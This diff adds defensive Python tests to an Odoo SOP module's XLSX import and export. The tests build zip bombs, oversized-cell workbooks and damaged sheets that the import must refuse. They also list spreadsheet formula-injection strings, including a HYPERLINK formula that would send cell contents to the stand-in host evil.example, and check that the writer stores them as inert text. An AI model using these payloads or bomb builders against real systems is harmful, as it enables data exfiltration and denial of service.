@@ -1,5 +1,8 @@
 import base64
 import io
+import re
+import tracemalloc
+import zipfile
 
 import openpyxl
 
@@ -8,9 +11,12 @@ from odoo.exceptions import UserError
 from odoo.tests import HttpCase
 from odoo.tests import new_test_user
 from odoo.tests import tagged
+from odoo.tests.common import BaseCase
 from odoo.tests.common import TransactionCase
 
 from ..tools import sop_xlsx
+from ..tools.xlsx_writer import SafeWorkbook
+from ..tools.xlsx_writer import write_text
 
 
 def _load(content):
@@ -21,6 +27,27 @@ def _save(book):
     buffer = io.BytesIO()
     book.save(buffer)
     return buffer.getvalue()
+
+
+def _rewrite_zip(content, replace=None, add=None):
+    """Copy an XLSX zip, ``replace`` mapping a part name to a function of its bytes, ``add`` new parts."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            data = source.read(info.filename)
+            if replace and info.filename in replace:
+                data = replace[info.filename](data)
+            target.writestr(info, data)
+        for name, (data, method) in (add or {}).items():
+            target.writestr(name, data, compress_type=method)
+    return buffer.getvalue()
+
+
+def _procedure_part(content):
+    """Name of the zip part of sheet Prosedur (as written by openpyxl or xlsxwriter)."""
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+    return sorted(names)[1]
 
 
 def _find_row(sheet, text):
@@ -282,3 +309,177 @@ class TestSopXlsxDownload(HttpCase):
         response = self.url_open(f"/sop_organisasi/xlsx/{draft.id}")
         self.assertNotEqual(response.status_code, 200, "OPD users only see effective SOPs")
         self.assertNotIn(b"PK", response.content[:2])
+
+
+@tagged("post_install", "-at_install")
+class TestSopXlsxLimits(TransactionCase):
+    """Hostile or oversized workbooks are refused before their cells are read (issue 10)."""
+
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.env = cls.env(context=dict(cls.env.context, tracking_disable=True))
+        cls.skj = cls.env.ref("sop_organisasi.sop_skj")
+        cls.skj_xlsx = cls.skj._export_xlsx()
+
+    def _counts(self):
+        return (
+            self.env["sop.procedure"].with_context(active_test=False).search_count([]),
+            self.env["sop.step"].search_count([]),
+        )
+
+    def _import_error(self, content, *messages):
+        """Import ``content``; return the UserError text and the peak of Python memory (MB) it took."""
+        before = self._counts()
+        tracemalloc.start()
+        try:
+            with self.assertRaises(UserError) as error:
+                self.env["sop.procedure"]._import_xlsx(content)
+            peak = tracemalloc.get_traced_memory()[1] / 1024 / 1024
+        finally:
+            tracemalloc.stop()
+        for message in messages:
+            self.assertIn(message, str(error.exception))
+        self.assertEqual(self._counts(), before, "nothing is created")
+        return str(error.exception), peak
+
+    def _with_cell(self, coordinate, value="x", sheet="Prosedur"):
+        book = _load(self.skj_xlsx)
+        book[sheet][coordinate] = value
+        return _save(book)
+
+    def _limits_named(self, message):
+        for text in ("1000 rows", "40 columns", "200 steps", "5 MB"):
+            self.assertIn(text, message)
+
+    # ------------------------------------------------------------ bombs
+    def test_far_cell_row_8000_refused_without_padding(self):
+        content = self._with_cell("XFD8000")
+        self.assertLess(len(content), 20_000)
+        message, peak = self._import_error(content, "too large", "Prosedur", "row 8000")
+        self._limits_named(message)
+        self.assertLess(peak, 30, "the rows are not padded to column XFD")
+
+    def test_last_cell_of_the_sheet_refused(self):
+        _message, peak = self._import_error(self._with_cell("XFD1048576"), "row 1048576")
+        self.assertLess(peak, 30)
+
+    def test_far_cell_behind_a_wrong_dimension_refused(self):
+        """A sheet that declares a small size (or none) is still streamed, not trusted."""
+        content = self._with_cell("XFD8000")
+        part = _procedure_part(content)
+        for dimension in (b'<dimension ref="A1:N30"/>', b""):
+            forged = _rewrite_zip(
+                content, replace={part: lambda data, d=dimension: re.sub(rb"<dimension [^>]*/>", d, data)}
+            )
+            _message, peak = self._import_error(forged, "too large", "Prosedur")
+            self.assertLess(peak, 30)
+        forged = _rewrite_zip(
+            self._with_cell("AZ6"), replace={part: lambda data: re.sub(rb"<dimension [^>]*/>", b"", data)}
+        )
+        self._import_error(forged, "column AZ")
+
+    def test_too_many_rows_and_columns(self):
+        self._import_error(self._with_cell("B1001", "Catatan"), "row 1001")
+        self._import_error(self._with_cell("A1001", "x", sheet="Identitas"), "Identitas", "row 1001")
+        self._import_error(self._with_cell("AO6"), "column AO")
+        # the last row and column within the limits are read (and here refused for their content)
+        book = _load(self.skj_xlsx)
+        book["Prosedur"]["A1000"] = 5
+        book["Prosedur"]["AN1000"] = "x"
+        message, _peak = self._import_error(_save(book), "Prosedur!B1000: the step text is missing")
+        self.assertNotIn("too large", message)
+
+    def test_too_many_steps(self):
+        data = self.skj._get_xlsx_data()
+        step = data["sections"][0]["steps"][1]
+
+        def steps(count):
+            return [dict(step, number=number) for number in range(1, count + 1)]
+
+        data["sections"] = [{"code": "A", "name": "PELAKSANAAN", "steps": steps(sop_xlsx.MAX_STEPS + 1)}]
+        self._import_error(sop_xlsx.write_workbook(data), "The procedure has 201 steps", "200 steps per SOP")
+        data["sections"][0]["steps"] = steps(sop_xlsx.MAX_STEPS)
+        procedure = self.env["sop.procedure"]._import_xlsx(sop_xlsx.write_workbook(data))
+        self.assertEqual(procedure.step_count, sop_xlsx.MAX_STEPS)
+
+    def test_file_and_zip_bomb_limits(self):
+        big = bytes(range(256)) * (6 * 4096)  # 6 MB that do not compress (stored)
+        self._import_error(
+            _rewrite_zip(self.skj_xlsx, add={"xl/media/big.bin": (big, zipfile.ZIP_STORED)}), "The file is 6."
+        )
+        bomb = b"\0" * (sop_xlsx.MAX_UNPACKED_BYTES + 1)  # about 20 KB once compressed
+        content = _rewrite_zip(self.skj_xlsx, add={"xl/media/bomb.bin": (bomb, zipfile.ZIP_DEFLATED)})
+        self.assertLess(len(content), 100_000)
+        self._import_error(content, "unpacks to 20.")
+        many = {f"xl/media/p{i}.bin": (b"", zipfile.ZIP_STORED) for i in range(sop_xlsx.MAX_PARTS)}
+        self._import_error(_rewrite_zip(self.skj_xlsx, add=many), "files.")
+
+    # ------------------------------------------------------------ damaged
+    def test_damaged_sheet_in_a_valid_zip(self):
+        part = _procedure_part(self.skj_xlsx)
+        content = _rewrite_zip(self.skj_xlsx, replace={part: lambda data: data[: len(data) // 2]})
+        self._import_error(content, "The file is damaged")
+        content = _rewrite_zip(self.skj_xlsx, replace={"xl/sharedStrings.xml": lambda data: b"<sst><si><t>"})
+        self._import_error(content, "The file is damaged")
+        content = _rewrite_zip(
+            self.skj_xlsx, replace={part: lambda data: data.replace(b"<sheetData>", b"<sheetData><row r=")}
+        )
+        self._import_error(content, "The file is damaged")
+
+    def test_damaged_message_in_indonesian(self):
+        self.env["res.lang"]._activate_lang("id_ID")
+        self.env["ir.module.module"].search([("name", "=", "sop_organisasi")])._update_translations(["id_ID"])
+        part = _procedure_part(self.skj_xlsx)
+        content = _rewrite_zip(self.skj_xlsx, replace={part: lambda data: data[: len(data) // 2]})
+        with self.assertRaisesRegex(UserError, "rusak"):
+            self.env["sop.procedure"].with_context(lang="id_ID")._import_xlsx(content)
+        with self.assertRaisesRegex(UserError, "terlalu besar"):
+            self.env["sop.procedure"].with_context(lang="id_ID")._import_xlsx(self._with_cell("XFD8000"))
+
+    # ------------------------------------------------------------ template and step numbers
+    def test_template_roles_become_the_sop_roles_only_when_used(self):
+        roles = self.env["sop.role"].search([])
+        self.assertGreater(len(roles), 2)
+        labels = [role._get_column_label() for role in roles]
+        book = _load(sop_xlsx.write_workbook(sop_xlsx.template_data(labels)))
+        self.assertEqual([c.value for c in book["Prosedur"][4]][2 : 2 + len(labels)], labels)
+        book["Identitas"]["B3"] = "Template Semua Pelaksana"
+        procedure = self.env["sop.procedure"]._import_xlsx(_save(book))
+        self.assertEqual(procedure.role_ids, roles[:2], "only the actors of the example steps")
+        self.assertEqual(procedure._get_ordered_steps().role_id, roles[:2])
+
+    def test_reused_step_number_reported(self):
+        book = _load(self.skj_xlsx)
+        sheet = book["Prosedur"]
+        self.assertEqual((sheet["A6"].value, sheet["A7"].value), (1, 2))
+        sheet["A7"] = 1
+        self._import_error(_save(book), "Prosedur!A7: step number 1 is used twice in section A (also in row 6)")
+
+
+@tagged("post_install", "-at_install")
+class TestXlsxWriter(BaseCase):
+    """Every export writes user text as text: no formula, no link (issue 10 item 3)."""
+
+    HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Klik")', "{=1+1}", "http://evil.example", "+1", "-2", "@SUM(A1)")
+
+    def test_text_stays_text(self):
+        book = SafeWorkbook()
+        sheet = book.add_worksheet("Data")
+        for row, text in enumerate(self.HOSTILE):
+            sheet.write(row, 0, text)
+            sheet.write_row(row, 1, [text, 3])
+            write_text(sheet, row, 3, text)
+        sheet.merge_range(10, 0, 10, 2, self.HOSTILE[0])
+        sheet.write(11, 0, "")
+        sheet.write(12, 0, 2.5)
+        result = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))["Data"]
+        for row, text in enumerate(self.HOSTILE, start=1):
+            for col in (1, 2, 4):
+                cell = result.cell(row=row, column=col)
+                self.assertEqual((cell.value, cell.data_type), (text, "s"))
+                self.assertIsNone(cell.hyperlink)
+            self.assertEqual(result.cell(row=row, column=3).value, 3)
+        self.assertEqual((result["A11"].value, result["A11"].data_type), (self.HOSTILE[0], "s"))
+        self.assertIsNone(result["A12"].value)
+        self.assertEqual(result["A13"].value, 2.5)
